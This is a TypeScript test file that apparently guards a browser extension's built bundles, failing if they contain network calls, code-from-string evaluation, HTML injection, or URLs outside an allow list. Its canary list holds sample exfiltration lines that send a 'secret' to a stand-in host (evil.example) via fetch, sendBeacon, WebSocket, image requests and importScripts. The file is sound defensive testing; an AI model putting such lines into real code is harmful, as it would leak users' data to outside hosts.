import { describe, expect, it } from 'vitest';
import { builtFiles, builtText, TARGETS } from './built';
import { findPrimitives, type Primitive } from './primitives';

/** One each for every way out that the gate claims to close. */
const CANARIES: readonly (readonly [name: string, code: string])[] = [
  ['fetch', 'fetch("https://evil.example/?" + secret)'],
  ['window.fetch', 'window.fetch("/x")'],
  ['globalThis["fetch"]', 'globalThis["fetch"]("/x")'],
  ['XMLHttpRequest', 'new XMLHttpRequest().open("GET", "/x")'],
  ['WebSocket', 'new WebSocket("wss://evil.example")'],
  ['EventSource', 'new EventSource("/x")'],
  ['RTCPeerConnection', 'new RTCPeerConnection({})'],
  ['sendBeacon', 'navigator.sendBeacon("/x", secret)'],
  ['Image', 'new Image().src = "https://evil.example/" + secret'],
  ['eval', 'eval(code)'],
  ['Function', 'Function("return this")()'],
  ['new Function', 'new Function("a", code)'],
  ['innerHTML', 'element.innerHTML = bio'],
  ['insertAdjacentHTML', 'element.insertAdjacentHTML("beforeend", bio)'],
  ['document.write', 'document.write(bio)'],
  ['DOMParser', 'new DOMParser().parseFromString(bio, "text/html")'],
  ['importScripts', 'importScripts("https://evil.example/x.js")'],
  ['preconnect', 'link.rel = "preconnect"'],
];

describe('the gate bites', () => {
  it.each(CANARIES)('on %s', (_name, code) => {
    expect(findPrimitives(code)).not.toEqual([]);
  });

  it('lets ordinary code pass', () => {
    expect(
      findPrimitives('const a = { fetch: 1 }; a.fetch; text.replace("innerHTML", ""); x instanceof Function'),
    ).toEqual([]);
  });
});

/** What a file may hold although the gate knows it, and why. */
function isExplained(path: string, { token, context }: Primitive): boolean {
  // The tap wraps the page's own two request functions; it makes no request with them.
  if (path.endsWith('content-scripts/tap.js')) return token === 'fetch' || token === 'XMLHttpRequest';
  // React's DOM code can set markup for a prop that the lint rules and the house-style test forbid us to use, and
  // knows resource hints for functions that no file here imports (react-dom's preconnect and its kin).
  const isPageChunk = path.startsWith('chunks/') || path === 'popup-page.js';
  return isPageChunk && (token === 'innerHTML' || token === 'resource hint' || /^\w+\.srcdoc$/.test(context));
}

describe.each(TARGETS)('%s', (target) => {
  it('holds no way to the network, no code from strings, no markup from strings', () => {
    const scripts = builtFiles(target).filter((path) => path.endsWith('.js'));
    expect(scripts.length).toBeGreaterThan(3);
    const found = scripts.flatMap((path) =>
      findPrimitives(builtText(target, path))
        .filter((primitive) => !isExplained(path, primitive))
        .map(({ token, context }) => `${path}: ${token} in ${context}`),
    );
    expect(found).toEqual([]);
  });

  it('names no address outside the supported sites and the namespaces of markup and workbooks', () => {
    const known =
      /^https?:\/\/(www\.instagram\.com|www\.tiktok\.com|l\.instagram\.com|www\.w3\.org|schemas\.openxmlformats\.org|react\.dev|www\.example\.com|([a-z-]+\.)+example)\b/;
    // Dexie and the framework name pages in the texts of their errors.
    const inErrorTexts =
      /^(background|chunks\/(dashboard|library-ports)-[\w-]+)\.js: https?:\/\/(bit\.ly|github\.com|tinyurl\.com|dexie\.org|wxt\.dev)$/;
    const found = builtFiles(target)
      .filter((path) => /\.(js|css|html)$/.test(path))
      .flatMap((path) =>
        [...builtText(target, path).matchAll(/https?:\/\/[a-zA-Z0-9.-]+\.[a-z]{2,}/g)].map(
          ([url]) => `${path}: ${url}`,
        ),
      )
      .filter((line) => !known.test(line.slice(line.indexOf(': ') + 2)) && !inErrorTexts.test(line));
    expect([...new Set(found)]).toEqual([]);
  });
});
